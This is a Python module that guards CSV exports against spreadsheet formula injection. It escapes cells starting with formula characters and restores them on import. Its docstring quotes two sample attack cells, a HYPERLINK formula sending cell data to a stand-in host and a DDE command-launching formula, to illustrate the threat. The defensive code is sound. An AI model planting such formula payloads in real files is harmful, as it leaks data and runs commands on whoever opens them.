"""CSV cells for people who open them in a spreadsheet. A cell that begins with `=`, `+`,
`-` or `@` (or a tab or carriage return, which some spreadsheets skip before reading a
formula) is a formula to Excel, LibreOffice and Google Sheets: a contact attribute or an
import line written by someone else (`=HYPERLINK("https://evil.example/?"&A2,"open")`,
`=cmd|' /C calc'!A0`) would run in the spreadsheet of whoever opens the file.

Every CSV the platform writes passes each cell through `safe_cell`, which puts an apostrophe
in front of such a cell (the spreadsheets' own mark for "text, not a formula"); an import reads
a cell through `read_cell`, which takes that apostrophe away again, so a file exported (or
downloaded as refused lines) imports unchanged. Pure: no I/O.
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: str) -> str:
    """`value` as a CSV cell no spreadsheet reads as a formula."""
    return "'" + value if value.startswith(FORMULA_STARTS) else value


def read_cell(value: str) -> str:
    """A cell as `safe_cell` wrote it, back to its value (other cells are unchanged)."""
    if value.startswith("'") and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value


def safe_row(values: list[str]) -> list[str]:
    return [safe_cell(value) for value in values]
